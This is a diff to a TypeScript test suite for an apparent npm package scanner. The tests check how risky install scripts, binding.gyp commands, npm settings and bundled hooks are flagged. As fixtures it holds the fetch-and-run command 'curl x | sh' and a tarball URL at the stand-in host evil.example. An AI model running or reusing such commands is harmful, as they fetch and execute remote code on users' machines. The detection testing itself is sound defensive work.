@@ -15,7 +15,7 @@ describe('M1p, a script before anything is installed', () => {
 });
 
 describe('M2 and M8, what stands in a command', () => {
-  const found = (sign: string) => saying({ command: one({ sign, excerpt: 'curl' }) });
+  const found = (sign: string) => saying({ command: one({ row: sign, what: 'curl' }) });
 
   it('blocks at install, and is noted in what a developer runs', () => {
     const scripts = { postinstall: 'curl x | sh' };
@@ -24,6 +24,18 @@ describe('M2 and M8, what stands in a command', () => {
     expect(rows({ scripts: { prepare: 'curl x | sh' } }, { origin: 'git' }, found('M2'))).toEqual([
       'M2 notice',
     ]);
+  });
+
+  it('asks about another runtime, unless the package is that', () => {
+    const scripts = { postinstall: 'bun x.js' };
+    expect(rows({ scripts }, {}, found('I7'))).toEqual(['I7 high']);
+    expect(rows({ scripts, manifest: { name: 'bun' } }, {}, found('I7'))).toEqual([]);
+  });
+
+  it('notes what is only unusual', () => {
+    const scripts = { postinstall: 'mytool' };
+    const ids = ['M10', 'M11', 'M12'].flatMap((row) => rows({ scripts }, {}, found(row)));
+    expect(ids).toEqual(['M10 notice', 'M11 notice', 'M12 info']);
   });
 
   it('tells the command and what of it', () => {
@@ -87,7 +99,13 @@ describe('M3, dependencies past every registry', () => {
 });
 
 describe('M4, a binding.gyp', () => {
-  const sign = { sign: 'M4', excerpt: '<!(node index.js)', path: 'binding.gyp', line: 4 };
+  const sign = {
+    row: 'M4',
+    what: 'node index.js',
+    excerpt: '<!(node index.js)',
+    path: 'binding.gyp',
+    line: 4,
+  };
 
   it('blocks where npm would configure it', () => {
     const given: CodeGiven = { others: { 'binding.gyp': 157 } };
@@ -100,14 +118,35 @@ describe('M4, a binding.gyp', () => {
 
   it('is told of otherwise', () => {
     const given: CodeGiven = { others: { 'binding.gyp': 157 } };
-    expect(rows(given, {}, saying({ gyp: one({ ...sign, sign: 'M4b' }) }))).toEqual(['M4b info']);
+    expect(rows(given, {}, saying({ gyp: one({ ...sign, row: 'M4b' }) }))).toEqual(['M4b info']);
   });
 });
 
 describe('what else is shipped', () => {
-  it('asks', () => {
-    const signs = saying({ shipped: one({ sign: 'S1', excerpt: 'node_modules/b with a postinstall' }) });
-    expect(rows({}, {}, signs)).toEqual(['S1 high']);
+  const shipping = (row: string, what: string) => saying({ shipped: one({ row, what, path: 'x' }) });
+
+  it('S1: hooks of packages that it does not say it bundles', () => {
+    expect(rows({}, {}, shipping('S1', 'postinstall: node x.js'))).toEqual(['S1 high']);
+    const bundling = { manifest: { bundled: ['kettle'] } };
+    expect(rows(bundling, {}, shipping('S1', 'postinstall: node x.js'))).toEqual(['S1 notice']);
+  });
+
+  it.each([
+    ['node-options', 'S2 high'],
+    ['registry, script-shell', 'S2 high'],
+    ['registry', 'S2 notice'],
+    ['', 'S2 info'],
+  ])('S2: settings that lead npm elsewhere: %j', (what, row) => {
+    expect(rows({}, {}, shipping('S2', what))).toEqual([row]);
+  });
+
+  it('S2: npm reads them all in a clone', () => {
+    expect(rows({}, { origin: 'git' }, shipping('S2', 'registry'))).toEqual(['S2 high']);
+  });
+
+  it('S3 and S4', () => {
+    expect(rows({}, {}, shipping('S3', 'https://evil.example/x.tgz'))).toEqual(['S3 high']);
+    expect(rows({}, {}, shipping('S4', 'it is no JSON'))).toEqual(['S4 notice']);
   });
 });
 
